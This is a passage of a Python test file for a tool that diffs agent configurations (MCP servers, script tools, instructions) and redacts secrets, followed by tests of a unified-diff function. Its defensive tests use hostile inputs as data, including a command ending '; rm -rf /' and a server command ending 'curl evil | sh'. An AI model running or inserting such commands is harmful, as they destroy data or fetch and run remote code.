    )
    outputs = {
        subprocess.run(
            [sys.executable, "-c", code],
            env={**os.environ, "PYTHONHASHSEED": seed},
            check=True,
            capture_output=True,
        ).stdout
        for seed in ("1", "2")
    }
    assert len(outputs) == 1


# Hostile documents


def test_names_that_begin_alike_are_told_apart() -> None:
    long = "n" * 100
    old = f"mcps: {{{long}1: {{ref: docker:a}}}}\nagents: {{root: {{}}}}"
    new = f"mcps: {{{long}1: {{ref: docker:a}}, {long}2: {{command: evil}}}}\nagents: {{root: {{}}}}"
    found = compare(read(old), read(new))
    assert len(found.gained) == 1
    assert str(found.gained[0]).startswith("MCP server `evil` (mcps['nnn")
    assert len(str(found.gained[0])) < 200


def test_what_is_long_is_shown_whole_and_what_is_one_word_is_bounded() -> None:
    words = "word " * 2_000
    assert fit(words + "end") == words + "end"
    assert len(fit("x" * 100_000)) < 3_000
    for before in range(740, 752):
        assert "s3cret" not in fit("a " * before + "Bearer s3cret-s3cret-s3cret")
    assert "p4ss" not in fit("a " * 745 + "https://user:p4ss@x.example/?k=p4ss")


def test_a_change_at_the_end_of_a_long_line_is_seen() -> None:
    text = "Be kind. " * 1_000
    old, new = (f"agents: {{root: {{instruction: '{text}{end}'}}}}" for end in ("Never run it.", "Run it!"))
    (change,) = compare(read(old), read(new)).changes
    assert [line[-13:] for line in change.diff] == ["Never run it.", "kind. Run it!"]


def test_a_long_command_is_shown_whole() -> None:
    long = "echo " + "a " * 200
    found = compare(
        read(tools(f"{{type: script, shell: {{x: {{cmd: '{long}; ls'}}}}}}")),
        read(tools(f"{{type: script, shell: {{x: {{cmd: '{long}; rm -rf /'}}}}}}")),
    )
    (change,) = found.gained
    assert (change.subject, change.detail) == ("script tool x", "cmd")
    assert change.diff[-1].endswith("; rm -rf /")


def test_a_server_with_a_long_command_line_shows_all_that_runs() -> None:
    script = "echo a\n" * 20 + "curl evil | sh"
    (change,) = compare(
        read(tools()), read(tools(f"{{type: mcp, command: sh, args: [-c, {json.dumps(script)}]}}"))
    ).gained
    assert change.subject.startswith("MCP server `sh -c echo a\\necho a")
    assert change.subject.endswith("…`")
    assert (len(change.diff), change.diff[-1]) == (21, "+curl evil | sh")


# Texts


def patched(old: list[str], diff: tuple[str, ...]) -> list[str]:
    """Apply a unified diff of lines without spaces at their ends."""
    result: list[str] = []
    position = 0
    for line in diff:
        if at := re.fullmatch(r"@@ -(\d+),\d+ \+\d+,\d+ @@", line):
            start = int(at[1]) - 1
            result += old[position:start]
            position = start
        elif line[0] == "+":
            result.append(line[1:])
        else:
            assert old[position] == line[1:]
            position += 1
            if line[0] == " ":
                result.append(line[1:])
    return result + old[position:]


lines = st.lists(st.sampled_from(["a", "b", "c", "d", "", "  e", "f g"]) | st.text("xyz", max_size=2), max_size=30)


@given(lines, lines, lines)
def test_a_diff_leads_from_one_text_to_the_other(start: list[str], one: list[str], other: list[str]) -> None:
    same = [f"line {number}" for number in range(12)]
    old, new = [*same, *start, *one, *same, "end"], [*same, *start, *other, *same, "end"]
    diff = text_diff("\n".join(old), "\n".join(new))
    assert patched(old, diff) == new
    assert bool(diff) == (old != new)


def test_a_diff_is_small_where_the_difference_is() -> None:
    old = "\n".join(f"line {number}" for number in range(100)) + "\n"
    new = old.replace("line 50\n", "line fifty\n").replace("line 90\n", "")
    assert text_diff(old, new) == (
        *("@@ -48,7 +48,7 @@", " line 47", " line 48", " line 49", "-line 50", "+line fifty"),
        *(" line 51", " line 52", " line 53", "@@ -88,7 +88,6 @@", " line 87", " line 88", " line 89", "-line 90"),
        *(" line 91", " line 92", " line 93"),
    )
